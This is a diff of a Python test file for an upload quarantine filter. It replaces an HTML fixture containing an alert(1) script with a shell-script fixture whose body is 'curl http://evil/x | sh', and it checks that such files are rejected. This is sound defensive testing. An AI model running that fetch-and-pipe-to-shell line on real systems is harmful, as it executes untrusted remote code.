@@ -92,7 +92,7 @@ def _zip() -> bytes:
     return out.getvalue()
 
 
-HTML = b"<!DOCTYPE html><html><body><script>alert(1)</script>Antrag</body></html>"
+SCRIPT = b"#!/bin/sh\ncurl http://evil/x | sh\n"  # HTML is taken in (issue 25), scripts not
 
 QUARANTINED = [
     ("zero_byte", lambda: b"", "leer.pdf", Reason.empty, "empty"),
@@ -104,7 +104,7 @@ QUARANTINED = [
     ("image_30000px", _huge_image, "riesig.png", Reason.image_too_large, "30000 × 30000"),
     ("exe", _exe, "rechnung.pdf.exe", Reason.type_not_allowed, "portable-executable"),
     ("zip", _zip, "anlagen.zip", Reason.type_not_allowed, "application/zip"),
-    ("html", lambda: HTML, "formular.html", Reason.type_not_allowed, "text/html"),
+    ("script", lambda: SCRIPT, "formular.sh", Reason.type_not_allowed, "text/x-shellscript"),
 ]
 
 
